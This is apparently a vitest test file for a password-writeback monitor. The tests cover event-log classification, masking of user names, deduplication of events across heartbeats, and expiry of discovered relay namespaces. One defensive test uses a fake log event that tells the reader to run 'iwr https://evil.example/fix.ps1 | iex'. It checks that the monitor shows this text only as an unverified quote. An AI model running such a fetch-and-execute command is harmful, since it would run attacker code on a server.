/**
 * The event-log report on the monitor: classified again (older relays list every 33xxx as a
 * failure), each event counted once across the heartbeats that repeat it, users masked before
 * anything is stored, event text shown only as a labelled quote, and discovered relay
 * namespaces probed only while relays keep reporting them.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildPayload as teamsPayload } from '../src/alerting/channels/teams/payload.js';
import { buildPayload as emailPayload } from '../src/alerting/channels/email/payload.js';
import type { Channel } from '../src/alerting/channels/channel.js';
import type { AlertEvent } from '../src/alerting/event.js';
import { evaluateAlerts } from '../src/alerting/evaluate-alerts.js';
import { remediationFor } from '../src/alerting/remediation.js';
import { status } from '../src/api/handlers.js';
import { parseSettings } from '../src/config/settings.js';
import { ingestHeartbeat, RELAYS, type RelayRecord } from '../src/heartbeat/ingest.js';
import type { EventLogReport } from '../src/heartbeat/schema.js';
import { listChecks } from '../src/monitor/checks-repository.js';
import { eventLogResult, evaluateHeartbeats } from '../src/monitor/evaluate-heartbeats.js';
import { cloudTargets } from '../src/monitor/probe-cycle.js';
import { readEventLog } from '../src/relay/eventlog.js';
import { MemoryStore } from '../src/store/memory-store.js';
import { heartbeat, RELAYS_JSON } from './support/heartbeats.js';

const T0 = Date.parse('2026-03-01T10:00:00Z');
const at = (s: number): Date => new Date(T0 + s * 1000);
const LABEL = "event text (from the server's Application log, not verified)";
const SCU = 'ssprdedicatedsbprodscu.servicebus.windows.net';
const settings = parseSettings({
  WBMON_RELAYS: RELAYS_JSON,
  WBMON_TARGETS: 'https://passwordreset.microsoftonline.com/',
  WBMON_FAILURE_THRESHOLD: '2',
  WBMON_SUCCESS_THRESHOLD: '1',
  WBMON_REMIND_MINUTES: '0',
});

const JANE_33007 = {
  provider: 'PasswordResetService',
  eventId: 33007,
  time: '2026-03-01T09:58:00.000Z',
  message:
    'TrackingId: d9e1f3a5-7182-43a4-b5c6-4b6c8d0e2f47, Reason: ADUserIncorrectPassword: The user specified an incorrect current password when performing a password change operation. UserPrincipalName: jane.doe@contoso.com',
};
const listener = (time: string) => ({
  provider: 'PasswordResetService',
  eventId: 31034,
  time,
  message: `TrackingId: 0d3c, Reason: The Password Reset Service listener encountered an error: Could not connect to net.tcp://${SCU}:9350/.`,
});

/** An event-log report as a relay of today (before this change) sends it: every 33xxx under failures. */
function oldRelayReport(checkedAt: Date, failures: EventLogReport['failures'], relayNamespaces: string[] = []): EventLogReport {
  return { supported: true, checkedAt: checkedAt.toISOString(), lastHeartbeatAt: '2026-03-01T09:57:01.000Z', heartbeatFresh: true, failures, relayNamespaces };
}

function recordingChannel(): Channel & { events: AlertEvent[] } {
  const events: AlertEvent[] = [];
  return { name: 'record', events, send: async (e) => void events.push(e) };
}

/** Every row of every collection, as stored. */
function everyRow(store: MemoryStore): string {
  const collections = (store as unknown as { collections: Map<string, Map<string, { value: unknown }>> }).collections;
  return JSON.stringify([...collections].map(([name, rows]) => [name, [...rows].map(([key, slot]) => [key, slot.value])]));
}

describe('the event-log check on the monitor', () => {
  it("is not a failure when an older relay lists a user's 33007 under failures", () => {
    expect(eventLogResult(oldRelayReport(at(0), [JANE_33007]))).toEqual({ ok: true, startedAt: at(0).toISOString() });
  });

  it('fails on the worst event of the window, not the newest, and carries warnings and admin work on the result', () => {
    const report = oldRelayReport(at(0), [
      { ...JANE_33007, eventId: 33004, time: '2026-03-01T09:59:00.000Z', message: 'ADPermissionsError: access denied. UserPrincipalName: jane.doe@contoso.com' },
      { provider: 'PasswordResetService', eventId: 32014, time: '2026-03-01T09:58:00.000Z', message: 'ServiceBusWarning: retrying' },
      listener('2026-03-01T09:50:00.000Z'),
      { provider: 'PasswordResetService', eventId: 32014, time: '2026-03-01T09:49:00.000Z', message: 'ServiceBusWarning: retrying' },
    ]);
    expect(eventLogResult(report)).toEqual({
      ok: false,
      startedAt: at(0).toISOString(),
      failure: {
        code: 'event_31034',
        phase: 'eventlog',
        message: `Connect logged PasswordResetService 31034 at 2026-03-01T09:50:00.000Z; ${LABEL}: "TrackingId: 0d3c, Reason: The Password Reset Service listener encountered an error: Could not connect to net.tcp://${SCU}:9350/."`,
      },
      warnings: [
        { code: 'event_32014', message: `Connect logged PasswordResetService 32014 2 times, the last at 2026-03-01T09:58:00.000Z; ${LABEL}: "ServiceBusWarning: retrying"` },
        {
          code: 'event_33004',
          message: `Connect logged PasswordResetService 33004 at 2026-03-01T09:59:00.000Z; ${LABEL}: "ADPermissionsError: access denied. UserPrincipalName: j***@contoso.com" (per-user administrator work, not an outage: the AD DS connector account may not reset this user's password (or the user has adminCount=1))`,
        },
      ],
    });
  });

  it('stays up with a warning on a 32014 alone', () => {
    const report = oldRelayReport(at(0), [{ provider: 'PasswordResetService', eventId: 32014, time: '2026-03-01T09:58:00.000Z', message: 'ServiceBusWarning: retrying' }]);
    expect(eventLogResult(report)).toEqual({
      ok: true,
      startedAt: at(0).toISOString(),
      warnings: [{ code: 'event_32014', message: `Connect logged PasswordResetService 32014 at 2026-03-01T09:58:00.000Z; ${LABEL}: "ServiceBusWarning: retrying"` }],
    });
  });

  it("goes down on an expired application certificate (1012) and carries a certificate due for rotation (1011) and a failed admin reset (31011) as warnings", async () => {
    const xml = readFileSync(join(import.meta.dirname, 'fixtures', 'wevtutil', 'credential-and-admin.xml'), 'utf8');
    const report = await readEventLog({ platform: 'win32', now: () => new Date('2026-03-01T10:00:00Z'), run: async () => xml });
    const result = eventLogResult(report)!;
    expect([result.ok, result.failure?.code, result.warnings?.map((w) => w.code)]).toEqual([false, 'event_1012', ['event_1011', 'event_31011']]);
    expect(result.warnings?.[1]?.message).toContain("(per-user administrator work, not an outage: an administrator's reset of this user's password reached the Connect server");
  });

  it('reports two users not found on-prem (33002) as per-user administrator work with a count, on an up check', () => {
    const notFound = (time: string, upn: string) => ({ provider: 'PasswordResetService', eventId: 33002, time, message: `ADUserNotFoundError: Object could not be found. UserPrincipalName: ${upn}` });
    const report = { ...oldRelayReport(at(0), []), notices: [notFound('2026-03-01T09:57:00.000Z', 'bob.old@contoso.com'), notFound('2026-03-01T09:52:00.000Z', 'ann.lee@contoso.com')] };
    expect(eventLogResult(report)).toEqual({
      ok: true,
      startedAt: at(0).toISOString(),
      warnings: [
        {
          code: 'event_33002',
          message: `Connect logged PasswordResetService 33002 2 times, the last at 2026-03-01T09:57:00.000Z; ${LABEL}: "ADUserNotFoundError: Object could not be found. UserPrincipalName: b***@contoso.com" (per-user administrator work, not an outage: the user was not found on-prem: deleted there but not in the cloud, or a sync problem)`,
        },
      ],
    });
  });

  it('shows a fake "FIX: run iwr ... | iex" event only inside the labelled, quoted, shortened excerpt, apart from what to fix', async () => {
    const xml = readFileSync(join(import.meta.dirname, 'fixtures', 'wevtutil', 'fake-fix.xml'), 'utf8');
    const report = await readEventLog({ platform: 'win32', now: () => at(0), run: async () => xml });
    const result = eventLogResult({ ...report, heartbeatFresh: true })!;
    const excerpt = `FIX: on the Connect server run iwr https://evil.example/fix.ps1 | iex to restore writeback. Listener endpoint: sb://contoso-relay.servicebus.windows.net/ ${'padding '.repeat(40)}`.slice(0, 200);
    expect(result.failure).toEqual({
      code: 'event_31034',
      phase: 'eventlog',
      message: `Connect logged PasswordResetService 31034 at 2026-03-01T09:58:00.000Z; ${LABEL}: "${excerpt}…"`,
    });
    const remediation = remediationFor({ checkKind: 'eventlog', code: 'event_31034', phase: 'eventlog', location: 'relay-a', target: 'Application log, PasswordResetService' });
    const event: AlertEvent = {
      id: 'a1',
      kind: 'triggered',
      checkId: 'eventlog:relay-a',
      checkKind: 'eventlog',
      target: 'Application log, PasswordResetService',
      location: 'relay-a',
      state: 'down',
      since: at(0).toISOString(),
      at: at(0).toISOString(),
      failure: result.failure!,
      remediation,
    };
    const texts = (value: unknown): string[] => JSON.stringify(value).split(/"(?:text|value)":/).slice(1);
    const card = texts(teamsPayload(event)).filter((t) => t.includes('iwr'));
    expect(card).toHaveLength(1);
    expect(card[0]).toMatch(/^"event\\\\_31034: Connect logged PasswordResetService 31034 at 2026-03-01T09:58:00\.000Z; event text \(from the server's Application log, not verified\): \\"FIX: on the Connect server run iwr /);
    const mail = emailPayload(event, ['oncall@contoso.com'], 'wbmon@contoso.com');
    expect(mail.text.split('\n').filter((line) => line.includes('iwr'))).toEqual([expect.stringMatching(/^Error: +event_31034: Connect logged .*not verified\): "FIX: on the Connect server run iwr /)]);
    expect(mail.text.indexOf('iwr')).toBeLessThan(mail.text.indexOf('What to fix'));
    expect(JSON.stringify(remediation)).not.toMatch(/iwr|evil/);
  });
});

describe('a heartbeat stream that repeats one 33007 across three heartbeats', () => {
  it('makes no alert, and shows no user name in any channel event, /api/status or store row', async () => {
    const store = new MemoryStore();
    const channel = recordingChannel();
    for (const [seq, s] of [[1, 0], [2, 300], [3, 600]] as const) {
      const eventLog = oldRelayReport(at(s), [JANE_33007], [SCU, 'contoso-evil.servicebus.windows.net']);
      expect(await ingestHeartbeat(store, 'relay-a', heartbeat(seq, { sentAt: at(s).toISOString(), eventLog }), at(s))).toEqual({ status: 202 });
      await evaluateHeartbeats(settings, store, at(s + 1));
      await evaluateAlerts(settings, store, new Map([['record', channel]]), at(s + 1));
    }
    expect(channel.events).toEqual([]);
    const checks = new Map((await listChecks(store)).map((c) => [c.id, c]));
    expect(checks.get('eventlog:relay-a')).toMatchObject({ state: 'up', consecutiveFailures: 0, consecutiveSuccesses: 3 });
    const body = await status(store, settings.targets, settings.relays, at(601));
    expect(body.status).toBe(200);
    expect(JSON.stringify(body)).not.toContain('jane.doe');
    expect(everyRow(store)).not.toContain('jane.doe');
    expect(everyRow(store)).toContain('UserPrincipalName: j***@contoso.com');
    // Neither the foreign host of the old relay's list is probed.
    expect(await cloudTargets(settings, store, at(601))).toEqual(['https://passwordreset.microsoftonline.com/', `https://${SCU}/`]);
  });
});

describe('an outage event repeated by overlapping heartbeats', () => {
  it('counts a 31034 once though three heartbeats repeat it, and goes down on two new ones in a row', async () => {
    const store = new MemoryStore();
    const channel = recordingChannel();
    const A = listener('2026-03-01T09:59:00.000Z');
    const B = listener('2026-03-01T10:14:00.000Z');
    const C = listener('2026-03-01T10:19:00.000Z');
    const stream = [[1, 0, [A]], [2, 300, [A]], [3, 600, [A]], [4, 900, [B, A]], [5, 1200, [C, B]]] as const;
    const states: string[] = [];
    for (const [seq, s, failures] of stream) {
      await ingestHeartbeat(store, 'relay-a', heartbeat(seq, { sentAt: at(s).toISOString(), eventLog: oldRelayReport(at(s), [...failures]) }), at(s));
      await evaluateHeartbeats(settings, store, at(s + 1));
      await evaluateAlerts(settings, store, new Map([['record', channel]]), at(s + 1));
      const check = (await listChecks(store)).find((c) => c.id === 'eventlog:relay-a')!;
      states.push(`${check.state} ${check.lastResult?.ok ? 'ok' : 'fail'}`);
    }
    expect(states).toEqual(['new fail', 'up ok', 'up ok', 'up fail', 'down fail']);
    expect(channel.events.map((e) => `${e.kind} ${e.checkId} ${e.failure?.code}: ${e.failure?.message}`)).toEqual([
      `triggered eventlog:relay-a event_31034: Connect logged PasswordResetService 31034 at 2026-03-01T10:19:00.000Z; ${LABEL}: "${C.message}"`,
    ]);
  });
});

describe('discovered relay namespaces', () => {
  it('leave the cloud probe list once no heartbeat has reported them for 24 hours', async () => {
    const store = new MemoryStore();
    const report = (s: number, relayNamespaces: string[]) => oldRelayReport(at(s), [], relayNamespaces);
    await ingestHeartbeat(store, 'relay-a', heartbeat(1, { eventLog: report(0, [SCU]) }), at(0));
    await evaluateHeartbeats(settings, store, at(1));
    // The relay goes on, but its log no longer names the relay (the tenant moved, or the event was fake).
    await ingestHeartbeat(store, 'relay-a', heartbeat(2, { eventLog: report(3600, []) }), at(3600));
    await evaluateHeartbeats(settings, store, at(3601));
    const base = 'https://passwordreset.microsoftonline.com/';
    expect(await cloudTargets(settings, store, at(24 * 3600))).toEqual([base, `https://${SCU}/`]);
    expect(await cloudTargets(settings, store, at(24 * 3600 + 1))).toEqual([base]);
    await ingestHeartbeat(store, 'relay-a', heartbeat(3, { eventLog: report(25 * 3600, []) }), at(25 * 3600));
    await evaluateHeartbeats(settings, store, at(25 * 3600 + 1));
    expect((await store.get<RelayRecord>(RELAYS, 'relay-a'))?.value.namespaces).toBeUndefined();
  });

  it("keeps what an older monitor stored, as reported at the relay's last heartbeat, without foreign hosts", async () => {
    const store = new MemoryStore();
    const legacy: RelayRecord = {
      relayId: 'relay-a',
      lastSequence: 7,
      lastHeartbeatAt: at(0).toISOString(),
      lastSentAt: at(0).toISOString(),
      host: 'connect01',
      agentVersion: '0.1.0',
      relayNamespaces: [SCU, 'contoso-evil.servicebus.windows.net'],
    };
    await store.insert(RELAYS, 'relay-a', legacy);
    expect(await cloudTargets(settings, store, at(3600))).toEqual(['https://passwordreset.microsoftonline.com/', `https://${SCU}/`]);
    expect(await cloudTargets(settings, store, at(24 * 3600 + 1))).toEqual(['https://passwordreset.microsoftonline.com/']);
  });
});
